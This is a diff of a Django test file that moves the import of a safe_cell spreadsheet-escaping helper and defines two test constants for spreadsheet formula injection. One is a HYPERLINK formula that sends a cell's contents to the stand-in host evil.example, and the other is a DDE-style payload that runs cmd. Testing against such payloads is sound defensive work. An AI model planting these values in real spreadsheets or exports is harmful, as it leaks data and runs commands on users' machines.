@@ -18,7 +18,7 @@ from django.urls import reverse
 from referee.models import Penalty
 from tests.referee.conftest import final_sheet
 from tournament.models import Table
-from tournament.spreadsheets import safe_cell
+from web.spreadsheets import safe_cell
 
 EVIL_FIRST = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 EVIL_LAST = "@SUM(1+1)*cmd|' /C calc'!A0"
